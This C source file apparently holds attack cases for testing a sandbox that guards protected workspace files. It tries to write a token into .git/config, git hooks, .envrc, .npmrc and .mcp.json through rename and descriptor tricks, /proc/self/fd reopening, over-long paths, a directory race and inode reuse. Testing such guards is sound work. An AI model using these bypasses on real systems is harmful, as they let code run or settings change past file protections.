/* Routes to a protected file of the workspace that a shell cannot take. */
#include "attack.h"
#include <pthread.h>

/* A directory is opened first and becomes .vscode afterwards: the descriptor stays good. */
static void renamed_dirfd(void) {
    if (mkdir("plain", 0755)) fail("mkdir");
    int dir = open("plain", O_RDONLY | O_DIRECTORY);
    if (rename("plain", ".idea")) fail("rename");
    int fd = openat(dir, "workspace.xml", O_WRONLY | O_CREAT, 0644);
    if (fd < 0) fail("openat");
    put(fd, token);
}

/* A writable descriptor is had first, then the file gets its name. */
static void renamed_file(void) {
    int fd = open("plain", O_WRONLY | O_CREAT, 0644);
    if (fd < 0 || rename("plain", ".envrc")) fail("rename");
    put(fd, token);
}

static void tmpfile_link(void) {
    int fd = open(".", O_TMPFILE | O_RDWR, 0644);
    char path[64];
    if (fd < 0) fail("O_TMPFILE");
    put(fd, token);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (linkat(AT_FDCWD, path, AT_FDCWD, ".envrc", AT_SYMLINK_FOLLOW)) fail("linkat");
}

static void exchange(void) {
    put_file("plain", token);
    if (renameat2(AT_FDCWD, "plain", AT_FDCWD, ".mcp.json", RENAME_EXCHANGE)) fail("renameat2");
}

static void hard_link_from_plain(void) {
    put_file("plain", token);
    if (link("plain", ".npmrc")) fail("link");
}

/* An existing protected file, by a descriptor of its directory. */
static void hooks_dirfd(void) {
    int dir = open(".git/hooks", O_PATH | O_DIRECTORY);
    if (dir < 0) fail("O_PATH");
    int fd = openat(dir, "pre-commit", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd < 0) fail("openat");
    put(fd, token);
}

static void read_only_descriptor(void) {
    int fd = open(".git/config", O_RDONLY);
    char path[64];
    if (fd < 0) fail("open");
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int again = open(path, O_WRONLY | O_APPEND);
    if (again < 0) fail("reopen");
    put(again, token);
}

static void append_to_config(void) {
    int fd = open("config", O_WRONLY | O_APPEND);
    if (fd < 0) return perror("config");
    put(fd, token);
    close(fd);
}

/* Moves the directory around a repository so deep that the path of its .git has the length, changes into it by a
 * descriptor, writes, and moves it back. */
static void write_deep(size_t length) {
    char here[PATH_MAX], name[256];
    if (!getcwd(here, sizeof here)) fail("getcwd");
    int top = open(".", O_PATH | O_DIRECTORY), dir = open(".", O_PATH | O_DIRECTORY);
    for (size_t left = length - strlen(here) - strlen("/group/old/.git"); left > 1;) {
        size_t n = left > 402 ? 200 : left > 202 ? left / 2 - 1 : left - 1;
        memset(name, 'd', n);
        name[n] = 0;
        if (mkdirat(dir, name, 0755)) fail("mkdirat");
        int next = openat(dir, name, O_PATH | O_DIRECTORY);
        if (next < 0) fail("openat");
        close(dir);
        dir = next;
        left -= n + 1;
    }
    if (renameat(top, "group", dir, "group")) fail("renameat");
    int git = openat(dir, "group/old/.git", O_PATH | O_DIRECTORY);
    if (git >= 0 && !fchdir(git)) append_to_config();
    if (renameat(dir, "group", top, "group")) fail("renameat back");
}

static void deep_path(void) { write_deep(4090); }

static void deeper_path(void) { write_deep(6000); }

static char place_a[PATH_MAX], place_b[PATH_MAX];
static volatile int is_over;

static void *move_parent(void *unused) {
    while (!is_over) rename(place_a, place_b), rename(place_b, place_a);
    return unused;
}

/* Keeps whoever answers busy, so that answers come late. */
static void *make_noise(void *unused) {
    while (!is_over) {
        int fd = open("absent", O_WRONLY);
        if (fd >= 0) close(fd);
    }
    return unused;
}

/* The name of the directory changes while `config` in it is opened. */
static void moving_parent(void) {
    pthread_t mover, noise;
    snprintf(place_a, sizeof place_a, "%s", at("work/group"));
    snprintf(place_b, sizeof place_b, "%s", at("work/moved"));
    if (chdir("group/old/.git")) fail("chdir");
    pthread_create(&mover, NULL, move_parent, NULL);
    pthread_create(&noise, NULL, make_noise, NULL);
    int fd = -1;
    for (double end = seconds() + 4; fd < 0 && seconds() < end;) fd = open("config", O_WRONLY | O_APPEND);
    is_over = 1;
    pthread_join(mover, NULL);
    pthread_join(noise, NULL);
    rename(place_b, place_a);
    if (fd < 0) fail("config");
    put(fd, token);
}

/* Files called config that are ours leave their inode numbers behind; the harness gives one of those to .git/config. */
static void reused_inode(void) {
    char path[64];
    struct stat st;
    FILE *list = fopen("inodes", "we");
    for (int i = 0; i < 300; i++) {
        snprintf(path, sizeof path, "n%d", i);
        if (mkdir(path, 0755)) fail("mkdir");
        snprintf(path, sizeof path, "n%d/config", i);
        put_file(path, "");
        if (stat(path, &st)) fail("stat");
        fprintf(list, "%lu\n", (unsigned long)st.st_ino);
    }
    fclose(list);
    for (int i = 0; i < 300; i++) {
        snprintf(path, sizeof path, "n%d/config", i);
        unlink(path);
    }
    wait_for("go");
    if (chdir(".git")) fail("chdir");
    append_to_config();
}

const struct attack CONFIGS[] = {
    {"config-deep-path", deep_path},
    {"config-deeper-path", deeper_path},
    {"config-moving-parent", moving_parent},
    {"config-reused-inode", reused_inode},
    {"config-renamed-dirfd", renamed_dirfd},
    {"config-renamed-file", renamed_file},
    {"config-tmpfile", tmpfile_link},
    {"config-exchange", exchange},
    {"config-hard-link-in", hard_link_from_plain},
    {"config-hooks-dirfd", hooks_dirfd},
    {"config-git-config-reopen", read_only_descriptor},
    {NULL, NULL},
};
